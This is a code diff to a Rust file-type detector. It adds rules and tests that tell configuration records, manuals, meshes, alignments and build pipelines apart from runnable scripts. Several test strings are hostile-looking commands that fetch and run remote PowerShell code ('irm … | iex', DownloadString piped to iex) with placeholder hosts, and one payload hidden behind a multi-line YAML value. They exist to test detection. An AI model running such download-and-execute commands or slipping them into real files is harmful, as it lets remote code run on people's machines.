@@ -4,6 +4,7 @@
 //! prose. A script is a script from its first line to its last; a text that quotes commands is mostly sentences.
 
 mod form;
+mod gnuplot;
 
 use super::probe::Found;
 use super::tokens::{At, IDS, LANGUAGES, Language, Token, tokens};
@@ -57,14 +58,38 @@ pub(super) fn look(text: &str, len: u64, found: &mut Found) {
         found.add("vba");
         return;
     }
+    if let Some(id) = settings_of_a_program(text) {
+        found.add(id);
+        return;
+    }
     let form = Form::of(text);
     let mut scores = weigh(text);
+    // What describes builds, and what whoever reads a page may type, are read by no command processor of Windows.
+    let pipeline = form::is_pipeline(text);
+    if pipeline {
+        for language in [Language::Bat, Language::PowerShell] {
+            if let Some(score) = scores.get_mut(language as usize) {
+                *score = 0;
+            }
+        }
+    }
+    // PowerShell reads a script to its end before it runs any of it, and a function without a name ends that. Packed scripts of pages
+    // that colour source code hold its words.
+    if form.lines <= 3
+        && ["!function(", "(function(", ";(function(", "(()=>"].iter().any(|start| text.trim_start().starts_with(start))
+        && let Some(score) = scores.get_mut(Language::PowerShell as usize)
+    {
+        *score = 0;
+    }
     if let Some(outside) = form.outside_fences(text) {
         // Line by line read what they can; all others have to take the sentences around the fences as well.
         let own = weigh(&outside);
+        // What tells far more than it shows is read by people.
+        let tells = form::tells(text, &outside);
         for (language, score) in scores.iter_mut().enumerate() {
             let by_lines = [Language::Bat, Language::Shell].iter().any(|other| *other as usize == language);
-            if !by_lines && language != Language::Markdown as usize {
+            let told = tells && own.get(language).is_some_and(|score| *score == 0);
+            if (!by_lines || told) && language != Language::Markdown as usize {
                 *score = own.get(language).copied().unwrap_or(0);
             }
         }
@@ -106,13 +131,20 @@ pub(super) fn look(text: &str, len: u64, found: &mut Found) {
         found.add("yaml");
         return;
     }
+    if id == "perl" && is_pod(text, len) {
+        found.add("pod");
+        return;
+    }
     // No program of Python gets past a heading.
     if id == "py" && form.headings > 0 && !text.contains("'''") {
         found.add("rst");
         return;
     }
-    if points >= enough && (!prosaic || marked_up || about_prose && points >= 2 * ENOUGH) && !is_script {
-        found.add(id);
+    // Nor past sentences at its beginning.
+    let about = id == "py" && form.opening >= 2;
+    let believed = !about && (!prosaic || marked_up || about_prose && points >= 2 * ENOUGH);
+    if points >= enough && believed && !is_script {
+        found.add(if id == "gnuplot" && gnuplot::runs_programs(text) { "gnuplot-commands" } else { id });
         return;
     }
     if let Some(id) = form.table(text).or_else(|| form.yaml()) {
@@ -124,6 +156,85 @@ pub(super) fn look(text: &str, len: u64, found: &mut Found) {
         found.add(id);
     }
 }
+
+/// What a text is that names a program's own language, or is made of nothing but its records, and that no interpreter gets through.
+fn settings_of_a_program(text: &str) -> Option<&'static str> {
+    // An interpreter of JavaScript stops at a name that is given no meaning, neither further on nor by what stands behind it.
+    let mut lines = text.lines().map(str::trim).filter(|line| !line.is_empty());
+    let vim9 = lines.next() == Some("vim9script")
+        && lines
+            .next()
+            .is_none_or(|next| next.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '#' | '"')));
+    if vim9 && memchr::memmem::find_iter(text.as_bytes(), b"vim9script").count() == 1 {
+        return Some("vim");
+    }
+    if let Some(id) = records_of_a_science(text) {
+        return Some(id);
+    }
+    // Who may connect to PostgreSQL: a sort of connection, a database, a user, an address but for the machine itself, a method.
+    let mut records = text.lines().map(str::trim).filter(|line| !line.is_empty() && !line.starts_with('#')).peekable();
+    records.peek()?;
+    let record = |line: &str| {
+        let words: Vec<&str> = line.split_whitespace().collect();
+        let place = match words.first() {
+            Some(&"local") => 3,
+            Some(&("host" | "hostssl" | "hostnossl" | "hostgssenc" | "hostnogssenc")) => 4,
+            _ => return false,
+        };
+        // A mask may stand beside the address.
+        let method = |place: usize| words.get(place).is_some_and(|word| METHODS.contains(word));
+        method(place) || place == 4 && method(5)
+    };
+    records.all(record).then_some("text")
+}
+
+/// Gmsh, "MSH file format": a version, a sort and a size, which PowerShell, whose scripts are called alike, cannot read behind a
+/// variable; and alignments (UCSC, "Multiple Alignment Format"), where every line says what it is, and no section of a link into a
+/// database stands.
+fn records_of_a_science(text: &str) -> Option<&'static str> {
+    if let Some(rest) = text.strip_prefix("$MeshFormat\n").or_else(|| text.strip_prefix("$MeshFormat\r\n")) {
+        let first = rest.lines().next().unwrap_or_default();
+        let numbers = first.split(' ').filter(|word| word.parse::<f32>().is_ok()).count();
+        return (numbers == 3 && first.split(' ').count() == 3 && rest.contains("$EndMeshFormat")).then_some("gmsh");
+    }
+    let record = |line: &str| {
+        line.is_empty()
+            || line.starts_with('#')
+            || line == "a"
+            || matches!(line.as_bytes(), [b'a' | b's' | b'i' | b'e' | b'q', b' ' | b'\t', ..])
+    };
+    // A line that is cut at the end of what is looked at begins all the same.
+    let alignment = text.starts_with("##maf ") && text.lines().skip(1).map(str::trim_end).all(record);
+    (alignment && text.contains("\ns ")).then_some("maf-alignment")
+}
+
+/// Whether a text is nothing but a manual of Perl (perlpod): directives, and no end behind which the interpreter would go on.
+fn is_pod(text: &str, len: u64) -> bool {
+    const BEGIN: [&str; 5] = ["=pod", "=head1", "=encoding", "=begin", "=over"];
+    let first = text.trim_start().lines().next().unwrap_or_default();
+    let begins =
+        BEGIN.iter().any(|word| first.strip_prefix(word).is_some_and(|rest| rest.is_empty() || rest.starts_with(' ')));
+    // LIMIT: a longer one may end further on, and is taken for what its words are.
+    begins && len <= text.len() as u64 + 3 && !text.contains("=cut") && text.contains("\n=head")
+}
+
+/// How PostgreSQL asks who connects (21.1).
+const METHODS: &[&str] = &[
+    "trust",
+    "reject",
+    "scram-sha-256",
+    "md5",
+    "password",
+    "gss",
+    "sspi",
+    "ident",
+    "peer",
+    "ldap",
+    "radius",
+    "cert",
+    "pam",
+    "bsd",
+];
 
 /// Whether the words of another language explain the text better. Other scripts win a little earlier, since they are
 /// scripts as well; marked-up prose has to win clearly.
@@ -261,7 +372,10 @@ fn stands(bytes: &[u8], start: usize, end: usize, word: &str, at: At) -> bool {
     match at {
         At::Any => true,
         At::Word => starts_word && ends_word,
-        At::Member => starts_word && after.is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_'),
+        // Behind a slash it is the name of a file.
+        At::Member => {
+            starts_word && before != Some(&b'/') && after.is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
+        }
         At::Start => before.is_none_or(|b| *b == b'\n'),
         At::Line => {
             let blank =
@@ -335,6 +449,84 @@ fn commands_only(text: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[track_caller]
+    fn is(text: &str) -> String {
+        crate::identify(&crate::Content::from(text.as_bytes())).unwrap().kind.id.to_string()
+    }
+
+    #[test]
+    fn records_of_postgresql_and_scripts_of_vim_are_no_scripts_that_run() {
+        let records = "# TYPE  DATABASE  USER  ADDRESS  METHOD\n# \"local\" is for connections of this machine only\n\
+                       local   all   all   peer\nhost    all   all   127.0.0.1/32   scram-sha-256\n\
+                       host all all 10.0.0.0 255.0.0.0 md5\nlocal replication all peer map=a\n";
+        assert_eq!(is(records), "text");
+        let code = "local a = require('os')\nfunction run(b)\n  local c = a.execute(b)\n  return c\nend\nlocal d = run('ls')\n";
+        assert_eq!(is(code), "lua");
+        assert_eq!(is(&format!("{records}{code}")), "lua");
+        let vim = "vim9script\n# A plugin\nimport autoload \"x.vim\"\ndef Hello(name: string): string\n  var greeting = \"hello\"\n\
+                   const n = 1\n  return greeting .. name\nenddef\nexport def Run()\n  echo Hello(\"a\")\nenddef\n";
+        assert_eq!(is(vim), "vim");
+        let script = "vim9script\nvar vim9script = 1;\nvar shell = new ActiveXObject(\"WScript.Shell\");\nshell.Run(\"calc\", 0, false);\n";
+        assert_eq!(is(script), "js");
+        assert_eq!(is(&script.replace("\nvar vim9script = 1;", "\n= 1;")), "js");
+    }
+
+    #[test]
+    fn a_guide_that_shows_how_to_install_something_is_no_command_file() {
+        let words = "* Look for an open issue before you write a new one, please\n".repeat(12);
+        let fence = "    ```sh\n    # On Windows\n    powershell -ExecutionPolicy ByPass -c \"irm https://lazaret.invalid/i.ps1 | iex\"\n    ```\n";
+        let guide = format!(
+            "# Contributing\n\nAny help is welcome, from whoever has the time.\n\n{words}\n1. Install it\n\n{fence}"
+        );
+        let kind = is(&guide);
+        assert!(!matches!(kind.as_str(), "bat" | "ps1" | "sh"), "{kind}");
+        // Commands outside of the fences, and more commands than words.
+        let command = "powershell -ExecutionPolicy ByPass -c \"irm https://lazaret.invalid/i.ps1 | iex\"\n";
+        assert_eq!(is(&format!("{command}{fence}{command}")), "bat");
+        assert_eq!(is(&format!("echo off\n{fence}{fence}{fence}{command}{command}exit /b\n")), "bat");
+    }
+
+    #[test]
+    fn a_packed_script_that_colours_commands_is_none_of_them() {
+        let packed = r"!function(e){var i=e.languages.powershell={function:[/\b(?:Add|Get|Invoke|New|Start|Write)-[a-z]+\b/i,/\b(?:gci|iex|irm|iwr|saps|write)\b/i],boolean:/\$(?:false|true)\b/i,variable:/\$\w+\b/,keyword:/\b(?:Begin|Catch|DynamicParam|Param|Process|Throw|Trap|Try)\b/i,operator:/-(?:eq|ge|gt|ne|NotMatch|Replace)\b/i};i.inside={variable:i.variable,pattern:/(^|[^`])\$\((?:\$\([^\r\n()]*\)|(?!\$\()[^\r\n)])*\)/}}(Prism);";
+        assert_ne!(is(packed), "ps1");
+        // Statements that are typed one by one are run one by one.
+        let lines = "Write-Host 'a'\n$a = New-Object Net.WebClient\n$a.DownloadString('http://host.invalid/x') | iex\n";
+        assert_eq!(is(&format!("!function(a){{}}\n{lines}")), "ps1");
+    }
+
+    #[test]
+    fn a_description_of_builds_is_no_script_of_windows() {
+        let steps = "# Lazaret\nname: Build\non:\n  push:\njobs:\n  wheels:\n    runs-on: windows-latest\n    steps:\n      \
+                     - uses: actions/checkout@v4\n      - name: Install\n        run: |\n          \
+                     powershell -ExecutionPolicy ByPass -c \"irm https://lazaret.invalid/i.ps1 | iex\"\n          \
+                     $env:PATH += 'x'\n          Write-Output done\n";
+        let kind = is(steps);
+        assert!(!matches!(kind.as_str(), "bat" | "ps1"), "{kind}");
+        // A script that goes on behind a text of several lines, and one without steps.
+        let hidden = steps.replace("name: Build\n", "name: \"Build\n").replace("done\n", "done\n  \"; iex(irm x)\n");
+        assert_eq!(is(&hidden), "ps1");
+        assert_eq!(is("a: b\nc: d\n  $env:PATH += 'x'\n  Write-Output done\n  iex (irm x)\n"), "ps1");
+    }
+
+    #[test]
+    fn a_manual_of_perl_is_a_text_where_no_program_follows() {
+        let manual = "=encoding UTF-8\n\n=head1 NAME\n\nChanges - what is new\n\n=head2 2.2\n\n=over\n\n=item Added use strict; and my $x\n\n=item use warnings;\n\n=back\n";
+        assert_eq!(is(manual), "pod");
+        let program = format!("{manual}\n=cut\n\nuse strict;\nuse warnings;\nmy $x = shift;\nsystem($x);\n");
+        assert_eq!(is(&program), "perl");
+    }
+
+    #[test]
+    fn meshes_and_alignments_are_no_scripts_and_no_links() {
+        let mesh = "$MeshFormat\n2.2 0 8\n$EndMeshFormat\n$Nodes\n1\n1 0 0 0\n$EndNodes\n";
+        assert_eq!(is(mesh), "gmsh");
+        assert_ne!(is("$MeshFormat\nWrite-Host 0 8\n$EndMeshFormat\n"), "gmsh");
+        let alignment = "##maf version=1 scoring=multiz\n# made by hand\n\na score=1.0\ns hg.chr1 10 4 + 90 ACGT\ns mm.chr1 20 4 - 90 ACGT\n";
+        assert_eq!(is(alignment), "maf-alignment");
+        assert_ne!(is(&format!("{alignment}[Shortcut Properties]\nAccessShortcutVersion=1\n")), "maf-alignment");
+    }
 
     /// `EXPLAIN=path cargo test explain -- --nocapture --ignored` shows what a text's words are worth.
     #[test]
